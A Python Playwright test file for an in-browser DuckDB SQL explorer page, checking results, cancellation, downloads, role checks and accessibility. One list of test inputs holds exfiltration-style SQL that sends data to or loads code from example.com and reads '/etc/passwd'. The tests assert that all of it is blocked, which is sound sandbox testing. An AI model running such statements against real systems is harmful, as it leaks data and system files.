"""分析 in a real browser: an engine of our own origin that answers, stops, keeps to itself and leads nothing out."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from playwright.sync_api import Browser, Download, Locator, Page, expect

from pipeline.aws import Cloud
from pipeline.lake.bucket import Lake
from tests.browser.conftest import (
    FLAGS,
    PATIENCE_MS,
    barriers,
    chromium_path,
    free_port,
    running_server,
    settled,
    shoot,
)
from tests.browser.test_sign_in import COOKIE_SECRET, RULES, SECRETS, Console, cookie
from tests.support.lakes.tables import make_day

BUCKET = "explored"
TABLE = "moderation-craft-data"
# What a table's bytes begin and end with: they are seen on the wire.
PARQUET = b"PAR1"


@pytest.fixture(scope="module")
def explored(cloud: Cloud, emulator_url: str) -> Iterator[str]:
    """One server over a lake that has tables."""
    cloud.s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": "ap-northeast-1"})
    cloud.s3.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
    make_day(Lake(cloud.s3, BUCKET), TABLE)
    with running_server(**lab(emulator_url)) as url:
        yield url


def lab(emulator_url: str) -> dict[str, str]:
    keys = {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing"}
    return {"PIPELINE_BACKEND": "aws", "AWS_ENDPOINT_URL": emulator_url, "S3_BUCKET_NAME": BUCKET, **keys}


@pytest.fixture
def asked_of(page: Page) -> list[str]:
    """Every address that the browser asks for, workers included."""
    seen: list[str] = []
    page.context.on("request", lambda request: seen.append(request.url))
    return seen


def opened(page: Page, server: str, more: str = "") -> Page:
    page.goto(f"{server}/debug/explore?lang=ja{more}")
    expect(page.locator(".cm-content")).to_be_visible()
    return page


def write(page: Page, text: str) -> Locator:
    editor = page.locator(".cm-content")
    editor.click()
    page.keyboard.press("ControlOrMeta+a")
    page.keyboard.press("Delete")
    page.keyboard.insert_text(text)
    return editor


def run(page: Page, text: str) -> None:
    """Run a text by the keyboard, and wait for its end."""
    write(page, text)
    page.keyboard.press("Escape")
    page.keyboard.press("ControlOrMeta+Enter")
    expect(page.locator('.explore[data-busy="false"]')).to_be_visible()


def cells(page: Page) -> list[str]:
    return page.locator(".grid td").all_inner_texts()


def stray(seen: list[str], server: str) -> list[str]:
    own = (server, server.replace("http", "ws"), "blob:", "data:")
    return [url for url in seen if not url.startswith(own)]


def test_the_first_query_answers_with_every_digit(page: Page, explored: str, asked_of: list[str]) -> None:
    opened(page, explored)
    run(page, "select weight, start_time, start_time_jst, category from session where focus_level = 4 limit 1")
    first = ["12345678901234567893.12345678", "2026-11-27 01:05:06.123456+00", "2026-11-27 10:05:06.123456", "NULL"]
    assert cells(page) == first
    expect(page.get_by_text(re.compile(r"^1行・[0-9.]+秒・使ったテーブル"))).to_be_visible()
    assert stray(asked_of, explored) == []
    shoot(page, "explore-first")


def test_columns_of_the_named_table_are_offered_first(page: Page, explored: str) -> None:
    opened(page, explored)
    offers = page.locator(".cm-tooltip-autocomplete li")
    write(page, "select  from session s")
    for _ in " from session s":
        page.keyboard.press("ArrowLeft")
    page.keyboard.type("foc", delay=30)
    expect(offers.first).to_be_visible()
    assert "focus_level" in "\n".join(offers.all_inner_texts()[:3])
    for _ in "foc":
        page.keyboard.press("Backspace")
    page.keyboard.type("s.", delay=30)
    expect(offers.first).to_be_visible()
    names = page.locator(".cm-completionLabel").all_inner_texts()
    assert set(names) == {"session_id", "category", "focus_level", "weight", "start_time", "start_time_jst"}


def test_a_selection_runs_alone_and_several_statements_run_in_turn(page: Page, explored: str) -> None:
    opened(page, explored)
    run(page, "create table mine as select 41 as n; select n + 1 from mine")
    assert cells(page) == ["42"]
    write(page, "select 1;\nselect 2")
    page.keyboard.press("Escape")
    page.keyboard.press("ControlOrMeta+Home")
    page.keyboard.press("Shift+End")
    page.keyboard.press("ControlOrMeta+Enter")
    expect(page.locator(".grid td")).to_have_text("1")


@pytest.mark.parametrize(
    "endless",
    [
        "select sum(a.range * b.range) from range(10000000) a, range(10000000) b",
        "select sum(length(repeat('x', 100000000 + (range % 7)::int))) from range(1000)",
    ],
)
def test_a_query_is_cancelled_and_the_next_one_answers(page: Page, explored: str, endless: str) -> None:
    opened(page, explored)
    run(page, "select count(*) from session")
    write(page, endless)
    page.keyboard.press("Escape")
    page.keyboard.press("ControlOrMeta+Enter")
    page.wait_for_timeout(300)
    page.get_by_role("button", name="中止").click()
    expect(page.locator('.explore[data-busy="false"]')).to_be_visible(timeout=3_000)
    expect(page.locator(".problem")).to_contain_text("中止しました")
    run(page, "select count(*) from session")
    assert cells(page) == ["400"]


OUT = [
    "select * from read_csv('https://example.com/?leak=1')",
    "select * from read_parquet('https://example.com/x.parquet')",
    "copy (select 1) to 'https://example.com/x.csv'",
    "attach 'https://example.com/x.db'",
    "install httpfs from 'https://example.com'",
    "load httpfs",
    "load icu",
    "set enable_external_access = true",
    "set custom_extension_repository = 'https://example.com'",
    "select * from read_text('/etc/passwd')",
]


def test_nothing_is_led_out_and_the_engine_goes_on(page: Page, explored: str, asked_of: list[str]) -> None:
    opened(page, explored)
    for attempt in OUT:
        run(page, attempt)
        expect(page.locator(".problem")).to_contain_text("SQLを実行できませんでした")
        run(page, "select 1 as ok")
        assert cells(page) == ["1"], attempt
    assert stray(asked_of, explored) == []


def test_shared_sql_is_shown_and_waits_for_the_person(page: Page, explored: str) -> None:
    opened(page, explored, "&sql=select%20count(*)%20from%20session%20--%20%3Cb%3E")
    expect(page.locator(".shared pre")).to_have_text("select count(*) from session -- <b>")
    expect(page.get_by_text("準備ができました")).to_be_visible()
    page.wait_for_timeout(500)
    assert cells(page) == []
    page.get_by_role("button", name="このSQLを実行").click()
    expect(page.locator(".grid td")).to_have_text("400")


def test_a_table_comes_once_and_a_rerun_brings_next_to_nothing(page: Page, explored: str) -> None:
    received: list[bytes | str] = []
    page.on("websocket", lambda socket: socket.on("framereceived", lambda frame: received.append(frame)))
    opened(page, explored)
    assert not any(PARQUET in bytes(frame) for frame in received if isinstance(frame, bytes))
    run(page, "select count(*) from session")
    run(page, "select max(focus_level) from session")
    settled(page)
    assert tables(received) == 1
    received.clear()
    run(page, "select min(focus_level) from session")
    page.wait_for_timeout(500)
    assert sum(map(len, received)) <= 2_048
    page.get_by_role("button", name="更新").click()
    settled(page)
    run(page, "select avg(focus_level) from session")
    assert received and tables(received) == 0
    # Streamlit's own elements come again; of ours only references.
    assert max(map(len, received)) <= 2_048


def tables(received: list[bytes | str]) -> int:
    """How many of these messages bring a table."""
    return sum(isinstance(frame, bytes) and PARQUET in frame for frame in received)


def test_what_is_too_much_is_said(page: Page, explored: str) -> None:
    opened(page, explored)
    run(page, "select sum(weight * 1000000000000) from session")
    expect(page.locator(".problem")).to_contain_text("計算の桁があふれました")
    run(page, "select * from range(250000)")
    expect(page.get_by_text("先頭の100,000行だけを表示")).to_be_visible()
    run(page, "select " + ", ".join(f"{n} as c{n}" for n in range(1_000)))
    expect(page.get_by_text("1000列のうち先頭の200列を表示")).to_be_visible()
    assert len(cells(page)) == 200
    run(page, "select list(repeat('abcdefgh' || range, 20000)) from range(100000)")
    expect(page.locator(".problem")).to_contain_text("ブラウザのメモリが足りません")
    run(page, "select count(*) from session")
    assert cells(page) == ["400"]


@pytest.mark.parametrize("name", ["interruptions", "memory_overflow", "allocation_failures"])
def test_a_name_that_is_not_there_is_the_sql_s_fault_whatever_it_sounds_like(
    page: Page, explored: str, name: str
) -> None:
    opened(page, explored)
    run(page, " ".join(("SELECT", name, "FROM session")))
    expect(page.locator(".problem")).to_contain_text("SQLを実行できませんでした")


def test_a_result_is_taken_whole_as_csv_and_parquet(page: Page, explored: str) -> None:
    opened(page, explored)
    run(page, "select weight, category from session order by session_id limit 8")
    taken: dict[str, Download] = {}
    for kind in ("CSV", "Parquet"):
        with page.expect_download() as pressed:
            page.get_by_role("button", name=f"結果全体を{kind}で保存").click()
        taken[kind] = pressed.value
    lines = taken["CSV"].path().read_text("utf-8-sig").splitlines()
    assert lines[0] == "weight,category" and "12345678901234567890.12345678,study" in lines
    assert any(line.endswith(",'=1+1") for line in lines) and any(line.endswith(",") for line in lines)
    weights = pq.read_table(io.BytesIO(taken["Parquet"].path().read_bytes()))["weight"].to_pylist()
    assert Decimal("12345678901234567890.12345678") in weights


def test_history_stays_in_the_browser_and_a_plan_is_shown(page: Page, explored: str) -> None:
    opened(page, explored)
    run(page, "select 'remembered' as word")
    page.get_by_role("button", name="実行計画").click()
    expect(page.locator("pre.plan")).to_be_visible()
    page.reload()
    page.get_by_text("履歴", exact=True).click()
    page.get_by_role("button", name="select 'remembered' as word").click()
    expect(page.locator(".cm-content")).to_contain_text("remembered")


def test_without_webassembly_it_says_so(page: Page, explored: str) -> None:
    page.add_init_script("Object.defineProperty(window, 'WebAssembly', { value: undefined })")
    opened(page, explored)
    expect(page.locator(".problem")).to_contain_text("このブラウザではエンジンが動きません")


def test_without_its_extensions_it_says_so_and_asks_nobody_else(page: Page, explored: str, asked_of: list[str]) -> None:
    page.context.route("**/*.duckdb_extension.wasm", lambda route: route.abort())
    opened(page, explored)
    expect(page.locator(".problem")).to_contain_text("エンジンを起動できませんでした")
    assert stray(asked_of, explored) == []


def test_a_viewer_is_refused_and_gets_neither_engine_nor_tables(
    page: Page, explored: str, emulator_url: str, tmp_path: Path, asked_of: list[str]
) -> None:
    secrets = SECRETS.format(secret=COOKIE_SECRET, provider="http://localhost:1", nothing=free_port())
    (tmp_path / "secrets.toml").write_text(secrets, "utf-8")
    (tmp_path / ".env.local").write_text(RULES, "utf-8")
    with running_server(tmp_path, **lab(emulator_url)) as url:
        console = Console(url, tmp_path, "")
        page.context.add_cookies([cookie(console, COOKIE_SECRET, email="viewer@example.com")])  # type: ignore[list-item]
        page.goto(f"{url}/debug/explore?lang=en")
        expect(page.get_by_text("needs the role operator")).to_be_visible()
        settled(page)
        expect(page.locator(".cm-content")).to_have_count(0)
        assert [one for one in asked_of if "/debug/engine/" in one] == []
        assert console.audit(action="download") == []


def test_a_reload_fetches_nothing_of_the_engine_again(browser: Browser, explored: str, tmp_path: Path) -> None:
    # With a folder, as people's browsers have one: what is kept in memory alone is kept by halves.
    context = browser.browser_type.launch_persistent_context(tmp_path, executable_path=chromium_path(), args=FLAGS)
    page = context.new_page()
    opened(page, explored)
    run(page, "select 1 as one")
    page.reload()
    expect(page.locator(".cm-content")).to_be_visible()
    run(page, "select 2 as two")
    taken = "performance.getEntriesByType('resource').map(one => [one.name, one.transferSize])"
    (worker,) = page.workers
    sent = [size for name, size in [*page.evaluate(taken), *worker.evaluate(taken)] if "/debug/engine/" in name]
    context.close()
    assert len(sent) >= 4 and sum(sent) == 0


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_axe_finds_nothing_serious_of_ours(browser: Browser, explored: str, theme: str, width: int) -> None:
    context = browser.new_context(viewport={"width": width, "height": 1000}, color_scheme=theme)  # type: ignore[arg-type]
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    opened(page, explored)
    run(page, "select category, count(*) as n, sum(weight) as w from session group by all order by all")
    page.locator(".schema summary").first.click()
    settled(page)
    shoot(page, f"explore-{theme}-{width}")
    found = barriers(page)
    page.locator(".cm-content").click()
    page.keyboard.type(" foc", delay=30)
    expect(page.locator(".cm-tooltip-autocomplete li").first).to_be_visible()
    shoot(page, f"explore-offers-{theme}-{width}")
    found += barriers(page)
    wide = page.evaluate("document.documentElement.scrollWidth > innerWidth")
    context.close()
    assert (found, wide) == ([], False)
